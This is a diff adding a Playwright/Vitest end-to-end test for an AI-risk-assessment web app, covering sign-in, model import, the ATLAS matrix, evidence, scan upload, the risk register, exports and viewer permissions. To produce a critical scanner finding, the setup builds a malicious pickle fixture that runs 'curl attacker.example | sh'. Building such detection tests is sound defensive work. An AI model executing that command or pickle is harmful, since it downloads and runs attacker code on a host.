@@ -1,0 +1,371 @@
+// End-to-end: the real `atlasguard serve` (temp SQLite, port 0) driven through Debian's Chromium, headless.
+import { spawn } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { readdir } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { spawnServer, type ChildServer } from '../../server/src/test-support/spawn-server.js';
+import { osSystemP0 } from '../../scan-model/src/test-support/pickle-builder.js';
+import { webRoot } from '../src/web-root.js';
+
+const CHROMIUM = '/usr/bin/chromium';
+const here = (p: string) => fileURLToPath(new URL(p, import.meta.url));
+const WEB = here('../');
+const ARTIFACTS = here('../test-artifacts/');
+const EXAMPLE = here('../../../examples/card-fraud-scoring/atlasguard.yaml');
+const CLI_CHILD = here('../../server/src/test-support/serve-child.ts');
+const ADMIN = { email: 'admin@example.org', password: 'correct horse battery staple' };
+const VIEWER = { email: 'viewer@example.org', password: 'viewer passphrase 123' };
+
+const haveChromium = existsSync(CHROMIUM);
+if (!haveChromium) {
+  if (process.env.CI === 'true')
+    throw new Error(`${CHROMIUM} is missing: CI installs Debian's chromium (.ci/services.sh)`);
+  console.warn(`skipping the web end-to-end tests: ${CHROMIUM} is not installed (apt-get install chromium)`);
+}
+
+/** Newest modification time under a directory (sources of the app). */
+async function newest(dir: string): Promise<number> {
+  let latest = 0;
+  for (const entry of await readdir(dir, { withFileTypes: true, recursive: true })) {
+    if (entry.isFile()) latest = Math.max(latest, statSync(join(entry.parentPath, entry.name)).mtimeMs);
+  }
+  return latest;
+}
+
+/** Builds the app with vite when its build is missing or older than its sources. */
+async function ensureBuilt(): Promise<void> {
+  const index = join(webRoot(), 'index.html');
+  const sources = Math.max(await newest(join(WEB, 'app')), statSync(join(WEB, 'vite.config.ts')).mtimeMs);
+  if (existsSync(index) && statSync(index).mtimeMs >= sources) return;
+  const { build } = await import('vite');
+  await build({ configFile: join(WEB, 'vite.config.ts'), logLevel: 'warn' });
+}
+
+/** Runs the real CLI from source (`atlasguard ARGS`) and resolves with its exit code. */
+function cli(args: readonly string[]): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(
+      process.execPath,
+      ['--conditions=@atlasguard/source', '--import', 'tsx', CLI_CHILD, ...args],
+      {
+        stdio: ['ignore', 'ignore', 'pipe'],
+      },
+    );
+    let err = '';
+    child.stderr.setEncoding('utf8').on('data', (c: string) => (err += c));
+    child.once('error', reject);
+    child.once('exit', (code) => {
+      if (code === null) reject(new Error(`atlasguard ${args.join(' ')} was killed:\n${err}`));
+      else resolve(code);
+    });
+  });
+}
+
+async function apiLogin(base: string, who: { email: string; password: string }): Promise<string> {
+  const res = await fetch(`${base}/api/auth/login`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(who),
+  });
+  expect(res.status).toBe(200);
+  const cookie = res.headers.get('set-cookie') ?? '';
+  return cookie.split(';')[0] ?? '';
+}
+
+describe.skipIf(!haveChromium)('web app in headless Chromium', () => {
+  let server: ChildServer;
+  let browser: Browser;
+  let dir: string;
+  const cleanups: (() => Promise<void> | void)[] = [];
+  let scanSarif: string;
+  const problems: string[] = [];
+
+  beforeAll(async () => {
+    dir = mkdtempSync(join(tmpdir(), 'atlasguard-e2e-'));
+    cleanups.push(() => {
+      rmSync(dir, { recursive: true, force: true });
+    });
+    mkdirSync(ARTIFACTS, { recursive: true });
+    await ensureBuilt();
+    // A scan result made by the real scanner: a pickle that calls os.system is a critical finding.
+    const models = join(dir, 'models');
+    mkdirSync(models);
+    writeFileSync(join(models, 'scorer.pkl'), osSystemP0('curl attacker.example | sh'));
+    scanSarif = join(dir, 'scan-model.sarif');
+    await cli(['scan', 'model', models, '--format', 'sarif', '--out', scanSarif]);
+    expect(existsSync(scanSarif)).toBe(true);
+
+    server = await spawnServer(
+      ['--db', `sqlite:${join(dir, 'atlasguard.sqlite')}`, '--admin-email', ADMIN.email],
+      { ATLASGUARD_ADMIN_PASSWORD: ADMIN.password, ATLASGUARD_DATA_DIR: dir },
+    );
+    cleanups.push(() => server.kill('SIGTERM'));
+    const cookie = await apiLogin(server.url, ADMIN);
+    const created = await fetch(`${server.url}/api/users`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', cookie },
+      body: JSON.stringify({ ...VIEWER, name: 'Vera Viewer', role: 'viewer' }),
+    });
+    expect(created.status).toBe(201);
+
+    browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      headless: true,
+      args: [
+        '--no-sandbox',
+        '--disable-gpu',
+        '--disable-quic',
+        '--no-first-run',
+        '--disable-background-networking',
+        '--disable-component-update',
+        '--disable-sync',
+      ],
+    });
+    cleanups.push(() => browser.close());
+  });
+
+  afterAll(async () => {
+    for (const cleanup of cleanups.reverse()) await cleanup();
+  });
+
+  async function newPage(width = 1280): Promise<{ context: BrowserContext; page: Page }> {
+    const context = await browser.newContext({ viewport: { width, height: 900 }, acceptDownloads: true });
+    const page = await context.newPage();
+    page.on('console', (m) => {
+      const text = m.text();
+      // Failed API calls (401 before sign-in, the viewer's refused write) are logged by Chromium as errors.
+      if (/Content.Security.Policy|Refused to/i.test(text)) problems.push(`console: ${text}`);
+    });
+    page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
+    return { context, page };
+  }
+
+  async function signIn(page: Page, who: { email: string; password: string }): Promise<void> {
+    await page.goto(server.url);
+    await page.getByLabel('Email').fill(who.email);
+    await page.getByLabel('Password').fill(who.password);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await page.getByRole('heading', { name: 'Portfolio' }).waitFor();
+  }
+
+  const shot = (page: Page, name: string, fullPage = true) =>
+    page.screenshot({ path: join(ARTIFACTS, `${name}.png`), fullPage });
+
+  it('admin: import a model, open the matrix and a technique, answer with evidence, upload a scan, accept a risk, export', async () => {
+    const { context, page } = await newPage();
+    await page.goto(server.url);
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
+    await shot(page, '01-sign-in');
+    await signIn(page, ADMIN);
+
+    // A new system, then its model (pasted into the editor), validated and imported.
+    await page.getByLabel('Slug').fill('card-fraud-scoring');
+    await page.getByLabel('Name', { exact: true }).fill('Real-time card-fraud scoring');
+    await page.getByLabel('Owner').fill('Fraud Analytics');
+    await page.getByRole('button', { name: 'Add system' }).click();
+    await page.getByRole('heading', { name: 'System model' }).waitFor();
+    await page.getByLabel('Model YAML').fill(readFileSync(EXAMPLE, 'utf8'));
+    await page.getByRole('button', { name: 'Import as new version' }).click();
+    await page.getByText(/Stored as version 1/).waitFor();
+
+    // Invalid YAML shows line:col issues.
+    await page.getByLabel('Model YAML').fill('atlasguard: 1\nsystem:\n  id: [unclosed\n');
+    await page.getByRole('button', { name: 'Import as new version' }).click();
+    await page
+      .getByRole('alert')
+      .filter({ hasText: /line \d+/ })
+      .first()
+      .waitFor();
+    await shot(page, '06-model-editor-issues');
+
+    // The matrix and a technique.
+    await page.getByRole('link', { name: 'ATLAS matrix' }).click();
+    await page.locator('button.tech').first().waitFor();
+    const residualBefore = await page.getByTestId('residual-score').innerText();
+    await shot(page, '03-system-matrix');
+    await page.getByLabel('mitigation coverage').check();
+    await shot(page, '03b-system-matrix-coverage');
+    await page.getByLabel('residual risk').check();
+    await page.locator('button.tech:not(.na)').first().click();
+    const drawer = page.getByRole('dialog');
+    await drawer.getByRole('heading', { name: /Why it/ }).waitFor();
+
+    // Answer the first question of the technique, with evidence.
+    const question = drawer.locator('article.question').first();
+    await question.getByLabel('Answer').selectOption('yes');
+    await question.getByLabel('Note').fill('Checked in the quarterly review');
+    await question.getByRole('button', { name: 'Save answer' }).click();
+    await question.getByText('Saved').waitFor();
+    await drawer.locator('article.question').first().getByRole('button', { name: 'Attach evidence' }).click();
+    const evidence = drawer.locator('article.question').first().locator('form.evidence-form');
+    await evidence.getByLabel('Title').fill('Review minutes 2026-Q4');
+    await evidence.getByLabel('URL').fill('https://wiki.example.org/ai-review/2026-q4');
+    await evidence.getByRole('button', { name: 'Attach' }).click();
+    await drawer.getByRole('link', { name: 'Review minutes 2026-Q4' }).waitFor();
+    await shot(page, '04-technique-drawer');
+    await drawer.getByRole('button', { name: 'Close' }).click();
+
+    // Upload the scan result made by `atlasguard scan model`.
+    await page.getByRole('link', { name: 'Findings' }).click();
+    await page.getByLabel('Scan file (JSON or SARIF)').setInputFiles(scanSarif);
+    await page.getByLabel('Produced by').selectOption('scan-model');
+    await page.getByRole('button', { name: 'Upload' }).click();
+    await page.getByText(/Uploaded scan-model \(sarif\): critical [1-9]/).waitFor();
+    await shot(page, '07-findings');
+
+    // History: every change was a run; the residual risk moved.
+    await page.getByRole('link', { name: 'History' }).click();
+    await page.getByRole('img', { name: /Residual score over/ }).waitFor();
+    const rows = await page.locator('table.data').last().locator('tbody tr').count();
+    expect(rows).toBeGreaterThanOrEqual(3);
+    const residualAfter = await page.getByTestId('residual-score').innerText();
+    expect(residualAfter).not.toBe(residualBefore);
+    await page.getByText(/new risks?, \d+ resolved/).waitFor();
+    await shot(page, '05-history');
+
+    // The other views of the system.
+    await page.getByRole('link', { name: 'Checklist' }).click();
+    await page.getByLabel('Questions for').selectOption('engineer');
+    const first = page.locator('article.question').first();
+    await first.waitFor();
+    // Attach a file as evidence: stored by the server with its SHA-256.
+    await first.getByRole('button', { name: 'Attach evidence' }).click();
+    const form = first.locator('form.evidence-form');
+    await form.getByLabel('file').check();
+    await form.getByLabel('Title').fill('Penetration test report');
+    await form.getByLabel('File', { exact: true }).setInputFiles({
+      name: 'pentest-2026.pdf',
+      mimeType: 'application/pdf',
+      buffer: Buffer.from('%PDF-1.4 penetration test summary'),
+    });
+    await form.getByRole('button', { name: 'Attach' }).click();
+    await first.getByRole('link', { name: 'Penetration test report' }).waitFor();
+    await expect(first.getByText(/pentest-2026\.pdf · 33 B · sha256 [0-9a-f]{12}/).count()).resolves.toBe(1);
+    await shot(page, '11-checklist-engineer', false);
+    await page.getByRole('link', { name: 'Elements' }).click();
+    await page.getByRole('tab', { name: 'data' }).click();
+    await page.locator('table.data tbody tr').first().waitFor();
+    await shot(page, '12-elements-data', false);
+    await page.getByRole('link', { name: 'Attack scenarios' }).click();
+    await page.getByRole('heading', { name: 'Attack scenarios' }).waitFor();
+    await page.locator('article.scenario').first().waitFor();
+    await shot(page, '13-attack-scenarios', false);
+
+    // Accept a risk in the register.
+    await page.getByRole('link', { name: 'Risk register' }).click();
+    await page.locator('table.risks tbody tr').first().waitFor();
+    await page.locator('table.risks tbody tr').first().getByRole('button', { name: /Edit/ }).click();
+    const accept = page.getByRole('form', { name: /^Accept / });
+    await accept.getByLabel('Reason').fill('Compensating fraud-operations review of the grey zone');
+    const expiry = new Date(Date.now() + 90 * 86_400_000).toISOString().slice(0, 10);
+    await accept.getByLabel('Expires on').fill(expiry);
+    await accept.getByRole('button', { name: 'Accept risk' }).click();
+    await page.locator('table.risks').getByText(`until ${expiry}`).waitFor();
+    await shot(page, '08-risk-register', false);
+
+    // The portfolio, and the matrix on a large screen.
+    await page.getByRole('link', { name: 'Portfolio' }).click();
+    await page.getByRole('link', { name: 'Real-time card-fraud scoring' }).first().waitFor();
+    await shot(page, '02-portfolio');
+    await page.setViewportSize({ width: 1920, height: 1080 });
+    await page.goto(`${server.url}/systems/${await systemId()}/matrix`);
+    await page.locator('button.tech').first().waitFor();
+    await shot(page, '09-matrix-1920');
+    // Export the HTML report.
+    await page.goto(`${server.url}/systems/${await systemId()}/reports`);
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('link', { name: 'HTML report' }).click(),
+    ]);
+    const saved = join(dir, 'report.html');
+    await download.saveAs(saved);
+    expect(readFileSync(saved, 'utf8')).toMatch(/<!doctype html>/i);
+    await shot(page, '14-reports', false);
+
+    // Export the register, as CSV and as XLSX.
+    await page.getByRole('link', { name: 'Risk register' }).click();
+    for (const format of ['CSV', 'XLSX'] as const) {
+      const [file] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('link', { name: format }).click(),
+      ]);
+      const path = join(dir, `risks.${format.toLowerCase()}`);
+      await file.saveAs(path);
+      const bytes = readFileSync(path);
+      if (format === 'CSV') expect(bytes.toString('utf8')).toMatch(/AML\.T\d{4}/);
+      else expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
+    }
+
+    await context.close();
+    expect(problems).toEqual([]);
+  });
+
+  async function systemId(): Promise<string> {
+    const cookie = await apiLogin(server.url, ADMIN);
+    const res = await fetch(`${server.url}/api/systems`, { headers: { cookie } });
+    const body = (await res.json()) as { items: { id: string; slug: string }[] };
+    const found = body.items.find((s) => s.slug === 'card-fraud-scoring');
+    if (found === undefined) throw new Error('the system was not created');
+    return found.id;
+  }
+
+  it('viewer: sees no write control, and the API refuses its writes with 403', async () => {
+    const { context, page } = await newPage();
+    await signIn(page, VIEWER);
+    const id = await systemId();
+    await expect(page.getByRole('heading', { name: 'Add an AI system' }).count()).resolves.toBe(0);
+
+    await page.goto(`${server.url}/systems/${id}/matrix`);
+    // Keyboard: a technique opens with Enter, the drawer closes with Escape.
+    await page.locator('button.tech:not(.na)').first().focus();
+    await page.keyboard.press('Enter');
+    await page.getByRole('dialog').waitFor();
+    await page.keyboard.press('Escape');
+    await page.getByRole('dialog').waitFor({ state: 'detached' });
+    await page.waitForFunction(() => document.activeElement?.getAttribute('data-technique') !== null);
+    await page.locator('button.tech:not(.na)').first().click();
+    const drawer = page.getByRole('dialog');
+    await drawer.locator('article.question').first().waitFor();
+    expect(await drawer.getByRole('button', { name: 'Save answer' }).count()).toBe(0);
+    expect(await drawer.getByRole('button', { name: 'Attach evidence' }).count()).toBe(0);
+
+    await page.goto(`${server.url}/systems/${id}/findings`);
+    await page.getByRole('heading', { name: 'Scan results' }).waitFor();
+    expect(await page.getByRole('button', { name: 'Upload' }).count()).toBe(0);
+    await page.goto(`${server.url}/systems/${id}/model`);
+    await page.getByLabel('Model YAML').waitFor();
+    expect(await page.getByRole('button', { name: 'Import as new version' }).count()).toBe(0);
+    await page.goto(`${server.url}/risks`);
+    await page.locator('table.risks tbody tr').first().waitFor();
+    expect(await page.locator('table.risks').getByRole('button', { name: /Edit/ }).count()).toBe(0);
+    await shot(page, '10-viewer-risk-register', false);
+
+    // The same writes from the viewer's browser session: refused by the API.
+    const statuses = await page.evaluate(async (systemId) => {
+      const json = { 'content-type': 'application/json' };
+      const put = await fetch(`/api/systems/${systemId}/answers/Q-TEST`, {
+        method: 'PUT',
+        headers: json,
+        body: JSON.stringify({ answer: 'yes', note: '' }),
+      });
+      const upload = await fetch(`/api/systems/${systemId}/findings`, {
+        method: 'POST',
+        headers: json,
+        body: JSON.stringify({ kind: 'scan-model', format: 'json', document: {} }),
+      });
+      const model = await fetch(`/api/systems/${systemId}/models`, {
+        method: 'POST',
+        headers: json,
+        body: JSON.stringify({ yaml: 'atlasguard: 1' }),
+      });
+      return [put.status, upload.status, model.status];
+    }, id);
+    expect(statuses).toEqual([403, 403, 403]);
+    await context.close();
+    expect(problems).toEqual([]);
+  });
+});
